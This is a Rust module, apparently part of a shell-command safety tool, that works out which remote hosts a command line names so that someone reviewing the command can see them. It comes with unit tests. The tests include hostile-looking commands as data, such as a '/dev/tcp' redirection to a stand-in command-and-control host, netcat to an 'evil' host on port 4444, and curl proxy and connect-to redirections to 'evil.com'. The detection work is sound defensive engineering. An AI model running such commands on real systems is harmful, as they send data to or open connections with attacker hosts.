//! The machines that a command names, for whoever is asked about it. Nothing is decided by it.
//!
//! An address says it itself (`https://host/`, `/dev/tcp/host/port`), and so do `user@host`, `user@host:path` and an IP address. A name with a dot is taken for one
//! where the catalogue says that the program sends to machines or fetches from them, and it stands where that program has its operands; a name without one is, where
//! the program has a machine as its first operand (`ssh backup`), or where a port stands behind it (`curl backup:8080`).
//!
//! Limits: a name in a file that the program reads is not known, nor is one that a variable holds. Not shown are names without a dot and a port in other places
//! (`curl backup`), and what an option names that is none of those below (`ssh -W`, `curl --preproxy`).

use std::collections::BTreeSet;
use std::net::{IpAddr, SocketAddr};

use backstop_shell::options::Options;
use backstop_shell::programs::Programs;

/// Options of clients of databases by which they are told where to go.
const HOST_OPTIONS: [(char, &str); 1] = [('h', "host")];

/// Programs whose first operand is a machine: ssh(1), autossh(1), mosh(1), sftp(1), nc(1), ncat(1), telnet(1), ftp(1).
const MACHINE_FIRST: [&str; 11] =
    ["ssh", "slogin", "rsh", "autossh", "mosh", "sftp", "nc", "ncat", "netcat", "telnet", "ftp"];
/// Programs that go through other machines by `-J` and `-o`: ssh(1), scp(1), sftp(1).
const JUMPING: [&str; 5] = ["ssh", "slogin", "rsh", "scp", "sftp"];
/// Their settings that name machines: ssh_config(5).
const SETTINGS: [&str; 2] = ["hostname", "proxyjump"];
/// Programs that are told of a proxy by `-x` and `--proxy`: curl(1), nc(1), ncat(1).
const PROXIED: [&str; 4] = ["curl", "nc", "ncat", "netcat"];
/// Programs whose operands are addresses: curl(1), wget(1).
const FETCHING: [&str; 2] = ["curl", "wget"];
/// Options of curl(1) by which it connects elsewhere than the address says, `HOST1:PORT1:HOST2:PORT2` and `HOST:PORT:ADDRESS,..`.
const ELSEWHERE: [&str; 2] = ["--connect-to", "--resolve"];

/// Returns the hosts that the words of a process name, its program first, as they are written.
pub(super) fn hosts_of<'w>(words: &[&'w str], programs: &Programs) -> Vec<&'w str> {
    let Some((program, args)) = words.split_first() else { return Vec::new() };
    let program = program.rsplit('/').next().unwrap_or(program);
    let mut hosts: Vec<&str> = words.iter().flat_map(|word| in_addresses(word)).collect();
    hosts.extend(args.iter().filter_map(|word| told(word)));
    let options = Options::parse(args, programs.takes(program));
    if MACHINE_FIRST.contains(&program) {
        // What stands behind it is a port, or a command that runs there.
        hosts.extend(options.operands.first().and_then(|word| machine(word)));
    } else if programs.reaches_machines(program) {
        let one: fn(&str) -> Option<&str> = if programs.copies(program) {
            remote
        } else if FETCHING.contains(&program) {
            address
        } else {
            named
        };
        hosts.extend(options.operands.iter().filter_map(|word| one(word)));
    }
    hosts.extend(by_options(program, args, &options));
    if programs.is_client(program) {
        for (short, long) in HOST_OPTIONS {
            hosts.extend(options.values(Some(short), long).filter(|value| !value.starts_with('/')));
        }
    }
    let mut met = BTreeSet::new();
    hosts.retain(|host| met.insert(*host));
    hosts
}

/// Returns the hosts that options name.
fn by_options<'w>(program: &str, args: &[&'w str], options: &Options<'w>) -> Vec<&'w str> {
    let mut hosts = Vec::new();
    if PROXIED.contains(&program) {
        hosts.extend(options.values(Some('x'), "proxy").filter_map(address));
    }
    if program == "curl" {
        hosts.extend(options.values(None, "url").filter_map(address));
        let pairs = args.iter().zip(args.iter().skip(1));
        let values = pairs.filter(|(option, _)| ELSEWHERE.contains(*option)).map(|(_, value)| *value);
        let behind = values.filter_map(|value| value.split(':').nth(2)).flat_map(|hosts| hosts.split(','));
        hosts.extend(behind.filter(|host| is_name(host)));
    }
    if JUMPING.contains(&program) {
        let settings = options.values(Some('o'), "").filter_map(|setting| {
            let (name, value) = setting.split_once(['=', ' '])?;
            SETTINGS.iter().any(|known| name.eq_ignore_ascii_case(known)).then_some(value)
        });
        let lists = options.values(Some('J'), "").chain(settings);
        hosts.extend(lists.flat_map(|list| list.split(',')).filter_map(|host| machine(host.trim())));
    }
    hosts
}

/// Returns the hosts of addresses in a text.
pub(super) fn in_addresses(text: &str) -> impl Iterator<Item = &str> {
    let addresses = text.match_indices("://").map(|(at, mark)| at + mark.len());
    let devices = ["/dev/tcp/", "/dev/udp/"];
    let devices = devices
        .into_iter()
        .flat_map(move |device| text.match_indices(device).map(|(at, mark)| at + mark.len()));
    let hosts = addresses.chain(devices).filter_map(move |at| {
        let (front, rest) = text.split_at_checked(at)?;
        // Clients take three slashes for two.
        let is_web = front.ends_with("http://") || front.ends_with("https://");
        let rest = if is_web { rest.trim_start_matches('/') } else { rest };
        let authority = rest.split(['/', '\\', '?', '#', ' ', '"', '\'', '\n']).next()?;
        authority.rsplit('@').next()
    });
    hosts.filter(|host| !host.is_empty())
}

/// Returns the host of a word that says one whatever the program is.
fn told(word: &str) -> Option<&str> {
    if word.contains("://") {
        return None;
    }
    if is_address(word) {
        return Some(word);
    }
    let (user, rest) = word.split_once('@')?;
    // A password may stand behind the name.
    let user = user.split(':').next()?;
    let host = rest.split([':', '/', '?', '#']).next()?.trim_end_matches('.');
    // A version is none (`name@1.2.3`).
    let is_host = host.bytes().any(|byte| byte.is_ascii_alphabetic()) || host.parse::<IpAddr>().is_ok();
    let is_told = host.contains('.') || rest.contains(':');
    (is_name(user) && is_name(host) && is_host && is_told).then_some(host)
}

/// Returns the host of an operand of a program that talks to other machines.
fn named(word: &str) -> Option<&str> {
    let (host, _) = host_and_port(word)?;
    let last = host.rsplit('.').next()?;
    let is_dotted =
        host.contains('.') && last.len() >= 2 && last.bytes().all(|byte| byte.is_ascii_alphabetic());
    let is_host = is_name(host) && (is_dotted || host == "localhost");
    (is_host || is_address(host)).then_some(host)
}

/// Returns the host of what is an address, also without a scheme: a port tells a name without a dot.
fn address(word: &str) -> Option<&str> {
    named(word).or_else(|| {
        let (host, port) = host_and_port(word)?;
        let is_port = !port.is_empty() && port.bytes().all(|byte| byte.is_ascii_digit());
        (is_name(host) && is_port).then_some(host)
    })
}

/// Returns the host of what is a machine, or a port of this one.
fn machine(word: &str) -> Option<&str> {
    let (host, _) = host_and_port(word)?;
    let is_port = host.bytes().all(|byte| byte.is_ascii_digit());
    (is_name(host) && !is_port || is_address(host)).then_some(host)
}

/// Returns the host and the port at the beginning of an address without a scheme. An IP address keeps the port, as [`told`] has it.
fn host_and_port(word: &str) -> Option<(&str, &str)> {
    if word.contains("://") || word.starts_with(['.', '/', '~']) {
        return None;
    }
    if is_address(word) {
        return Some((word, ""));
    }
    // Clients take one slash for two.
    let word = ["http:/", "https:/"].iter().find_map(|scheme| word.strip_prefix(scheme)).unwrap_or(word);
    let authority = word.split(['/', '?', '#']).next()?;
    let place = authority.rsplit_once('@').map_or(authority, |(_, place)| place);
    if let Some(inside) = place.strip_prefix('[') {
        let (host, port) = inside.split_once(']')?;
        return Some((host, port.trim_start_matches(':')));
    }
    let (host, port) = place.split_once(':').unwrap_or((place, ""));
    Some((host.trim_end_matches('.'), port))
}

/// Returns whether it is an IP address of a machine, alone or with a port.
fn is_address(text: &str) -> bool {
    text.parse::<SocketAddr>().is_ok() || text.parse::<IpAddr>().is_ok_and(|ip| !ip.is_unspecified())
}

/// Returns the host of an operand of a program that copies files: what has none is a path here.
fn remote(word: &str) -> Option<&str> {
    let (host, _) = word.split_once(':').filter(|_| !word.contains("://"))?;
    (!word.contains('@') && is_name(host)).then_some(host)
}

fn is_name(text: &str) -> bool {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_');
    !text.is_empty() && text.chars().all(is_plain)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hosts(words: &str) -> Vec<String> {
        let words: Vec<&str> = words.split(' ').collect();
        let programs = Programs::built_in();
        hosts_of(&words, &programs).into_iter().map(str::to_owned).collect()
    }

    #[test]
    fn machines_are_named_in_the_ways_of_their_programs() {
        for (words, expected) in [
            ("curl example.com", &["example.com"][..]),
            ("curl -o page.html example.com/x", &["example.com"]),
            ("curl https://a.example:8080/x", &["a.example:8080"]),
            ("ssh deploy@prod.example.com uptime", &["prod.example.com"]),
            ("nc 10.0.0.5 4444", &["10.0.0.5"]),
            ("git push git@github.example:org/repo.git", &["github.example"]),
            ("scp notes.txt me@backup:store/", &["backup"]),
            ("rsync -a notes.txt backup:store", &["backup"]),
            ("psql -h db.example -U me", &["db.example"]),
            ("bash -c x>/dev/tcp/c2.example/443", &["c2.example"]),
            ("ssh backup", &["backup"]),
            ("ssh me@backup cat notes.md", &["backup"]),
            ("ssh -J evil h", &["h", "evil"]),
            ("ssh -J me@a:22,b -o HostName=c h", &["a", "h", "b", "c"]),
            ("nc evil 4444", &["evil"]),
            ("curl localhost:8080", &["localhost"]),
            ("curl evil:8080/x", &["evil"]),
            ("curl evil.com.", &["evil.com"]),
            ("curl evil.com?x=1", &["evil.com"]),
            ("curl evil.com#x", &["evil.com"]),
            ("curl me:pw@evil.com", &["evil.com"]),
            ("curl http:/evil.com", &["evil.com"]),
            ("curl https:///evil.com/x", &["evil.com"]),
            ("curl --url evil.com", &["evil.com"]),
            ("curl -x evil.com:80 a.example", &["a.example", "evil.com"]),
            ("curl --proxy evil:80 a.example", &["a.example", "evil"]),
            ("curl --connect-to ::evil.com:443 https://a.example", &["a.example", "evil.com"]),
            ("curl [::1]:80", &["[::1]:80"]),
            ("curl [::1]:80/x", &["::1"]),
            ("curl 10.0.0.5/x", &["10.0.0.5"]),
        ] {
            assert_eq!(hosts(words), expected, "{words}");
        }
    }

    #[test]
    fn what_names_no_machine_is_none() {
        for words in [
            "cat notes.txt",
            "make all",
            "git config user.name me",
            "psql -h /run/socket",
            "npm i a@1.2.3",
            "nc -l 4444",
        ] {
            assert_eq!(hosts(words), [""; 0], "{words}");
        }
    }
}
